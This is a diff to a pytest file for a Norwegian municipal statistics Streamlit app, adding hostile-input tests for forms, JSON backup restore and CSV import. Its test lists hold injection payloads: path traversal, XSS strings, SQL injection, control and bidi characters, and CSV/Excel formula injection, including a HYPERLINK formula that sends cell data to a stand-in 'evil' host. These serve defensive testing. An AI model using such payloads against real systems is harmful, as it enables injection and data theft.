@@ -10,13 +10,18 @@ the shipped one (linked, read-only), the user store a throwaway one.
 
 from __future__ import annotations
 
+import csv
+import json
 import re
+from html import escape
+import shutil
 from datetime import date
 from pathlib import Path
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from nokkeltall import cli, snapshot
 from nokkeltall.store import UserStore, ValidationError
 from nokkeltall.store.decks import DeckStore
 
@@ -45,8 +50,18 @@ HOSTILE = [
     # path traversal and odd literals
     "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f",
     "None", "null", "undefined", "true", "[]", "{}", "${7*7}", "{{7*7}}", "%s%s%s%n", "   ",
+    # issue 17: digits int() refuses («²» passes str.isdigit), a number Streamlit's binding made infinite
+    "²", "³", "١٢", "9" * 400, "1e999",
+    # control characters (vertical tab is Word's Shift+Enter; Word's XML holds none of them)
+    "\x0b", "Linje\x0bto", "18\x0b35", "\x0c\x07\x08\x1f\x7f\x85\x9b", "tekst\x00med\x00nul",
+    # bidi overrides, embeddings, isolates and marks
+    "\u202egnirts\u202c", "\u2066\u2067\u2068isolert\u2069", "\u202a\u202b\u202d\u200e\u200f\u061c",
+    # formula strings (CSV/Excel injection)
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?q="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)",
+    "\t=1+1", "\r=1+1",
 ]
 assert len(HOSTILE) >= 50
+MEGABYTE = "æ" * 1_000_000  # a 1 MB string: form fields and import paths (not URLs: servers cap those)
 
 # The parameters each page reads. ``parsed``: read by our code, which must answer with a message;
 # ``bound``: widgets bound to the URL by Streamlit (bind="query-params"), which falls back to the
@@ -65,6 +80,8 @@ PARAMS = {
 # samlingsmodus's «sett» (a deck) replaces the comparison parameters, so it gets its own pass
 EXTRA_PASSES = {"pages/samlingsmodus.py": {"parsed": ["sett"], "bound": []}}
 
+# what must never be stored: control characters but tab/newline, bidi controls, BOM
+UNSAFE_STORED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
 DANGEROUS = re.compile(r"<\s*script|onerror\s*=|onload\s*=|javascript:|<\s*iframe|<\s*img|<\s*svg", re.IGNORECASE)
 
 
@@ -213,6 +230,13 @@ def test_application_form_fields(data_dir):
         message = _outcome(store.add_application, {**GOOD_APPLICATION, "municipality_code": value}, "Test")
         if message is None:
             failures.append(f"municipality_code={value[:20]!r} was accepted")
+    # a megabyte in any text field is refused, and nothing stored holds a control or bidi character
+    for field in TEXT_FIELDS:
+        if _outcome(lambda: store.update_application(saved["id"], {field: MEGABYTE}, changed_by="Test")) is None:
+            failures.append(f"{field}: 1 MB accepted")
+    stored = store.get_application(saved["id"])
+    failures += [f"{field} stored {stored[field][:30]!r}" for field in TEXT_FIELDS
+                 if isinstance(stored[field], str) and UNSAFE_STORED.search(stored[field])]
     assert not failures, "\n".join(failures[:40])
     # whatever was saved shows without exception or injected HTML on the application page
     at = page_app("pages/soknader.py")
@@ -265,7 +289,8 @@ def test_invisible_characters_are_not_echoed(data_dir):
 
 FORM_VALUES = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "1835' OR 1=1--", "a" * 10_000,
                "9" * 5_000, "-99999999999999999999", "1e308", "NaN", "\u202e5381", "\x00", "%00", "🏔️🦌",
-               "../../etc/passwd", "[klikk](javascript:alert(1))", "   "]
+               "../../etc/passwd", "[klikk](javascript:alert(1))", "   ",
+               "Linje\x0bto", "\u202egnirts\u202c", "=cmd|' /C calc'!A0", "@SUM(A1)", MEGABYTE]
 
 
 def test_application_and_plan_forms_in_the_page(data_dir):
@@ -311,15 +336,87 @@ def test_report_html_escapes_what_users_entered(data_dir, tmp_path):
     from nokkeltall import report
 
     store = UserStore(tmp_path / "brukerdata.sqlite", today=TODAY)
-    for value in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
-                  "javascript:alert(1)", "<iframe src=//evil>"):
+    values = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
+              "javascript:alert(1)", "<iframe src=//evil>")
+    for value in values:
         store.add_plan_entry({"municipality_code": "1835", "plan_type": "samfunnsdel", "status": "vedtatt",
                               "adopted": "2020", "period": value, "source": value, "note": value}, changed_by=value)
         store.add_milestone({"municipality_code": "1835", "plan_type": "planstrategi", "title": value,
                              "start_date": "2027-01-15", "status": "planlagt", "note": value}, changed_by=value)
     with duckdb.connect(str(data_dir / "nokkeltall.duckdb"), read_only=True) as con:
         page = report.render_bytes(con, "1835", "html", charts=False, store=store).decode("utf-8")
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, "the values are in the report, escaped"
+    # the newest entry is shown; entries saved within one second tie, so any of them may be the one
+    assert any(escape(value) in page or escape(value, quote=False) in page for value in values), "escaped"
     body = page.split("<body", 1)[-1]
     assert not re.search(r"<\s*(script|img|svg|iframe)\b|\sonerror\s*=|\sonload\s*=", body, re.IGNORECASE)
     assert 'href="javascript:' not in body.lower()
+
+
+# --- issue 17: the JSON restore and the spreadsheet import carry the same values -------------------------
+
+RESTORE_TEXT_FIELDS = {"applications": ["progress_plan", "fact_base_description", "contact_name", "note",
+                                        "entered_by", "updated_by"],
+                       "plan_status_entries": ["period", "source", "note"],
+                       "milestones": ["title", "note"], "decks": ["name", "saved_by"]}
+
+
+def test_restore_with_hostile_values_in_every_text_field(data_dir, tmp_path):
+    """Every hostile value (and a megabyte) in every text field of a backup: refused with Norwegian
+    messages or restored cleaned, never an exception; then the pages showing the data stay clean."""
+    source = UserStore(tmp_path / "source.sqlite", today=TODAY)
+    source.add_application(GOOD_APPLICATION, changed_by="Test")
+    source.add_plan_entry({"municipality_code": "1835", "plan_type": "samfunnsdel", "status": "vedtatt",
+                           "adopted": "2020", "source": "Sak 1"}, changed_by="Test")
+    source.add_milestone({"municipality_code": "1835", "plan_type": "planstrategi", "title": "Oppstart",
+                          "start_date": "2027-01-15", "status": "planlagt"}, changed_by="Test")
+    DeckStore(source).save("Sett", [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer",
+                                     "base_year": None}], "Test")
+    backup = source.export_data()
+    store = UserStore(data_dir / "brukerdata.sqlite", today=TODAY)
+    failures, restored = [], 0
+    for value in [*HOSTILE, MEGABYTE]:
+        for table, fields in RESTORE_TEXT_FIELDS.items():
+            changed = json.loads(json.dumps(backup))
+            for field in fields:
+                changed["tables"][table][0][field] = value
+            if _outcome(lambda: store.import_json(json.dumps(changed), restored_by="Test")) is None:
+                restored += 1
+                row = store.export_data()["tables"][table][0]
+                failures += [f"{table}.{field}={value[:20]!r} stored {row[field][:30]!r}" for field in fields
+                             if isinstance(row[field], str) and UNSAFE_STORED.search(row[field])]
+    assert restored, "the harmless values were restored"
+    assert not failures, "\n".join(failures[:40])
+    for page, params in (("pages/soknader.py", {"kommune": "1835"}), ("pages/plan.py", {"kommune": "1835"}),
+                         ("pages/samlingsmodus.py", {})):
+        at = run_with(page_app(page), params)
+        assert problems_on(at) == [], page
+
+
+def test_spreadsheet_import_with_hostile_values(tmp_path, monkeypatch, shipped_database):
+    """The collected plan status CSV (``nokkeltall import``) with every hostile value in its text columns:
+    imported cleaned (no control or bidi character, no non-http link) or refused, never a traceback."""
+    folder = tmp_path / "data"
+    folder.mkdir()
+    shutil.copytree(ROOT / "data" / "snapshot", folder / "snapshot")
+    shutil.copy(shipped_database, folder / "nokkeltall.duckdb")
+    monkeypatch.setenv("NOKKELTALL_DATA_DIR", str(folder))
+    values = [v for v in [*HOSTILE, MEGABYTE] if "\x00" not in v]  # NUL: pandas' parser stops reading
+    path = tmp_path / "planstatus.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["kommunenummer", "kommunenavn", "plantype", "periode", "vedtatt", "status", "kilde_url",
+                         "kilde_tittel", "hentet_fra", "merknad"])
+        for value in values:
+            writer.writerow(["1835", value, "samfunnsdel", value, value, "ukjent", value, value, value, value])
+    assert cli.main(["import", str(path)]) == 0
+    frame = snapshot.load_dataset("plan_status_sources")
+    for column in ("period", "adopted", "source_title", "note", "source_url"):
+        texts = frame[column].dropna()
+        assert not texts.str.contains(UNSAFE_STORED.pattern, regex=True).any(), column
+    assert frame["source_url"].dropna().str.match(r"https?://").all()
+    at = run_with(page_app("pages/plan.py"), {"kommune": "1835"})
+    assert problems_on(at) == []
+    nul = tmp_path / "nul.csv"
+    nul.write_text(path.read_text(encoding="utf-8").splitlines()[0] + "\n1835,a\x00b,samfunnsdel,2020\x00,,ukjent,,,,\n",
+                   encoding="utf-8")
+    assert cli.main(["import", str(nul)]) in (0, 2)
